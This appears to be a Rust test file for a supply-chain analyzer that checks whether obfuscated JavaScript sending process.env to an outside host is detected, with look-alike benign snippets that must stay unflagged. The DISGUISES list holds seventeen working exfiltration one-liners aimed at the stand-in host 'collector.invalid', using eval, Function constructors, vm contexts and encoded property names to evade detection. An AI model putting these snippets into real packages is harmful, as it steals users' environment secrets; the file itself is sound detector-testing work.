//! The process, the loader and the names of both in disguise: what evaluated text, constructors and
//! constants give back. Beside each, what honest code does with the same means.

use weir_model::contents::{SinkKind, SourceKind};

use super::installed;

/// What it does, and code of `index.js` that posts the environment.
const DISGUISES: &[(&str, &str)] = &[
    (
        "asks a function for the global object",
        "const g = Function('return this')(); fetch('https://collector.invalid', { body: JSON.stringify(g.process.env) })",
    ),
    (
        "sends by way of the global object",
        "const g = new Function('return this')(); g.fetch('https://collector.invalid', { body: JSON.stringify(process.env) })",
    ),
    (
        "asks for the environment at once",
        "const e = Function('return this.process.env')(); fetch('https://collector.invalid', { body: JSON.stringify(e) })",
    ),
    (
        "evaluates `this` from outside",
        "const g = (0, eval)('this'); fetch('https://collector.invalid', { body: JSON.stringify(g.process.env) })",
    ),
    (
        "evaluates the loader",
        "eval('require')('https').request('https://collector.invalid').end(JSON.stringify(process.env))",
    ),
    (
        "hands the loader through a function of text",
        "new Function('r', 'return r')(require)('https').request('https://collector.invalid').end(JSON.stringify(process.env))",
    ),
    (
        "evaluates a variable of its own",
        "const env = process.env; fetch('https://collector.invalid', { body: JSON.stringify(eval('env')) })",
    ),
    (
        "makes a function by a constructor's constructor",
        "const p = [].constructor.constructor('return process')(); fetch('https://collector.invalid', { body: JSON.stringify(p.env) })",
    ),
    (
        "makes a function by the constructor of a method",
        "const p = []['filter']['constructor']('return process')(); fetch('https://collector.invalid', { body: JSON.stringify(p.env) })",
    ),
    (
        "asks a context for the process",
        "const p = require('vm').runInThisContext('process'); fetch('https://collector.invalid', { body: JSON.stringify(p.env) })",
    ),
    (
        "names nothing inside `with`",
        "with (require('https')) { with (process) { request({ host: 'collector.invalid', method: 'POST' }).end(JSON.stringify(env)) } }",
    ),
    (
        "writes a name as a number",
        "fetch('https://collector.invalid', { body: JSON.stringify(process[(19003).toString(36)]) })",
    ),
    (
        "writes a name as a number in a variable",
        "const n = 19003; fetch('https://collector.invalid', { body: JSON.stringify(process[n.toString(36)]) })",
    ),
    (
        "reads a name out of JSON",
        "const names = JSON.parse('{\"e\":\"env\"}'); fetch('https://collector.invalid', { body: JSON.stringify(process[names.e]) })",
    ),
    (
        "takes a name from its tag",
        "function t(s) { return s[0] } fetch('https://collector.invalid', { body: JSON.stringify(process[t`env`]) })",
    ),
    (
        "goes through the process by name",
        "for (const k in process) if (k.length === 3 && k[0] === 'e') fetch('https://collector.invalid', { body: JSON.stringify(process[k]) })",
    ),
    (
        "asks for a descriptor",
        "const e = Object.getOwnPropertyDescriptor(process, 'env').value; fetch('https://collector.invalid', { body: JSON.stringify(e) })",
    ),
];

#[test]
fn disguises_are_seen_through() {
    let mut wrong = String::new();
    for (says, code) in DISGUISES {
        let facts = installed(&[("index.js", code)]);
        let found = facts
            .flows
            .iter()
            .any(|flow| flow.source == SourceKind::Environment && flow.sink == SinkKind::Http);
        if !found {
            wrong.push_str(&format!("{says}: {:?} {:?}\n", facts.flows, facts.unread));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn the_same_means_in_honest_code_stay_quiet() {
    let mut wrong = String::new();
    for (says, code) in [
        (
            "asks for the global object's timer",
            "const root = Function('return this')(); root.setTimeout(() => fetch('https://api.example'), 10)",
        ),
        (
            "keeps something at the global object",
            "const root = (0, eval)('this'); root.cache = { size: 1 }; fetch('https://api.example/' + root.cache.size + root.process.version)",
        ),
        (
            "writes numbers in other bases",
            "const id = (123456).toString(36); fetch('https://api.example/' + id + (255).toString(16))",
        ),
        (
            "describes the version",
            "const v = Object.getOwnPropertyDescriptor(process, 'version').value; fetch('https://api.example/' + v)",
        ),
        (
            "goes through the versions",
            "for (const k in process.versions) fetch('https://api.example/' + k + process.versions[k])",
        ),
        (
            "tags a text",
            "const css = (s, ...v) => s.join('') + v.join(''); fetch('https://api.example/' + css`a ${1} b`)",
        ),
        (
            "parses a constant",
            "const o = JSON.parse('{\"a\":\"b\"}'); fetch('https://api.example/' + o.a)",
        ),
        (
            "makes one more of itself",
            "class A { again() { return new this.constructor('return process') } } fetch('https://api.example', { body: new A().again() })",
        ),
        (
            "copies the process for a sandbox",
            "const copy = {}; for (const k in process) copy[k] = process[k]; fetch('https://api.example/' + copy.platform)",
        ),
    ] {
        let facts = installed(&[("index.js", code)]);
        if !facts.flows.is_empty() {
            wrong.push_str(&format!("{says}: {:?}\n", facts.flows));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}
